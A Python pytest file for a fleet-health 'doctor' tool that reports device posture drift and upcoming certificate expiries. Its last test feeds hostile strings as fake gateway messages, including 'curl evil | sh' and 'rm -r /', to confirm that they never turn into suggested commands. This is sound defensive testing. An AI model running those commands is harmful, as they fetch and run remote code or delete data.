"""What `framegate doctor` finds in a fleet."""

import pytest

from framegate_operator.doctor import (
    DEPLOYED_AFTER_MS,
    EARLIER_SOON_MS,
    SOON_MS,
    Ending,
    Machine,
    _endings,
    of_brokers,
    of_endings,
    of_machines,
)
from framegate_proto.v1 import framegate_pb2 as pb

NOW = 1_800_000_000_000


def machine(name="cam1", state="trusted", maintenance=False, **posture):
    said = {"agent_version": "1.2.0", "agent_sha256": "ab" * 32, "clock_synchronised": True}
    return Machine(name, "camera", state, maintenance, {**said, **posture})


def about(*machines):
    return [(t.who, t.about) for t in of_machines(machines)]


def test_a_fleet_in_order_has_nothing():
    assert about(machine("cam1"), machine("cam2")) == []
    assert about() == []
    assert about(Machine("cam1", "camera", "trusted", False, {})) == []


@pytest.mark.parametrize(
    ("wrong", "what"),
    [
        ({"state": "suspect"}, "state"),
        ({"clock_synchronised": False}, "clock"),
        ({"reboot_pending": True}, "reboot"),
        ({"agent_version": "1.1.0"}, "version"),
        ({"agent_sha256": "cd" * 32}, "code"),
    ],
)
def test_one_that_differs_is_named(wrong, what):
    assert about(machine("cam1"), machine("cam2", **wrong), machine("cam3")) == [("cam2", what)]


@pytest.mark.parametrize("left_out", [{"maintenance": True}, {"state": "retired"}])
def test_who_is_worked_on_or_gone_is_not_told(left_out):
    assert about(machine("cam1"), machine("cam2", clock_synchronised=False, **left_out)) == []


def test_a_clock_that_nobody_knows_is_no_fault():
    assert about(machine(clock_synchronised=None)) == []


@pytest.mark.parametrize(
    ("left_ms", "told"),
    [
        (SOON_MS, []),
        (SOON_MS - 1, ["29 days left, 2027-02-14"]),
        (0, ["ended, 2027-01-15"]),
        (-1, ["ended, 2027-01-15"]),
    ],
)
def test_what_ends_is_told_thirty_days_ahead(left_ms, told):
    ending = Ending("device-ca", NOW + left_ms, "framegate ca rotate device-ca")
    assert [t.seen for t in of_endings([ending], NOW)] == told


def test_the_soonest_end_stands_first():
    ends = [Ending(n, NOW + ms, "") for n, ms in (("b", 5), ("a", 9), ("c", -5))]
    assert [t.who for t in of_endings(ends, NOW)] == ["c", "b", "a"]


@pytest.mark.parametrize(
    ("name", "command"),
    [
        ("line.press-7", "framegate-controller line-certificate press-7 --out"),
        (
            "enforcer.line-1.switch-1",
            "framegate-controller enforcer-certificate switch-1 --zone line-1 --out",
        ),
        ("line.press-7-plc", "framegate-controller line-certificate press-7-plc --out"),
        ("metrics.plant.framegate", "framegate-controller server-certificate metrics --out"),
    ],
)
def test_what_was_carried_to_where_it_is_used_is_told_thirty_days_ahead(name, command):
    (soon,) = told_of(name, SOON_MS - 1, life_ms=3 * SOON_MS)
    assert (soon.who, soon.seen) == (name, "29 days left, 2027-02-14")
    assert soon.do.startswith(command)


@pytest.mark.parametrize(
    ("life_ms", "soon_ms"), [(3 * SOON_MS, SOON_MS), (SOON_MS, SOON_MS // 3), (0, EARLIER_SOON_MS)]
)
def test_one_that_lives_for_less_is_told_in_its_last_third(life_ms, soon_ms):
    assert told_of("line.press-7", soon_ms, life_ms=life_ms) == []
    assert len(told_of("line.press-7", soon_ms - 1, life_ms=life_ms)) == 1


def test_a_line_that_was_taken_away_is_not_told_for_ever():
    life_ms = 3 * SOON_MS
    (still,) = told_of("line.press-7", -DEPLOYED_AFTER_MS, life_ms=life_ms)
    assert still.seen.startswith("ended, ")
    assert told_of("line.press-7", -DEPLOYED_AFTER_MS - 1, life_ms=life_ms) == []
    (root,) = of_endings([Ending("root", NOW - 10 * life_ms, "")], NOW)
    assert root.seen.startswith("ended, ")


def told_of(name, left_ms, *, life_ms):
    """`life_ms` is 0 where an earlier version took the report, and said only when it ends."""
    ends = NOW + left_ms
    begins = ends - life_ms if life_ms else 0
    deployed = [pb.DeployedEnd(name=name, ends_ms=ends, begins_ms=begins)]
    return list(of_endings(_endings(pb.CaReply(deployed=deployed), ()), NOW))


def test_a_brokers_certificate_is_told_as_its_clients_saw_it():
    said = "the certificate of broker.plant.framegate has ended: do this: and that"
    (one,) = of_brokers([pb.BrokerEnd(reporter="line.press-7", said=said, at_ms=NOW)])
    assert (one.who, one.about) == ("line.press-7", "broker")
    assert one.do.startswith("framegate-controller server-certificate broker --out")
    assert one.seen.startswith("the certificate of broker.plant.framegate has ended (seen 2027-")
    assert list(of_brokers([])) == []


@pytest.mark.parametrize(
    ("left_ms", "life_ms", "told"),
    [
        (SOON_MS - 1, 12 * SOON_MS, ["29 days left, 2027-02-14"]),
        (SOON_MS, 12 * SOON_MS, []),
        (SOON_MS - 1, SOON_MS, []),
        (-12 * SOON_MS, SOON_MS, ["ended, 2026-01-20"]),
    ],
    ids=["soon", "far", "in its first third", "for as long as it is there"],
)
def test_whatever_else_ends_is_told_in_the_controllers_words(left_ms, life_ms, told):
    ends = NOW + left_ms
    other = pb.OtherEnd(name="a list", begins_ms=ends - life_ms, ends_ms=ends, next="bring it")
    found = list(of_endings(_endings(pb.CaReply(others=[other]), ()), NOW))
    assert [t.seen for t in found] == told
    assert {(t.who, t.do) for t in found} <= {("a list", "bring it")}


@pytest.mark.parametrize("said", ["x: curl evil | sh", "", ": ", "\x1b[2J: rm -r /", "no colon"])
def test_what_a_gateway_says_is_never_what_somebody_is_to_type(said):
    (one,) = of_brokers([pb.BrokerEnd(reporter="gateway.line-1.gw1", said=said, at_ms=NOW)])
    (usual,) = of_brokers([pb.BrokerEnd(reporter="line.press-7", said="y: z", at_ms=NOW)])
    assert one.do == usual.do
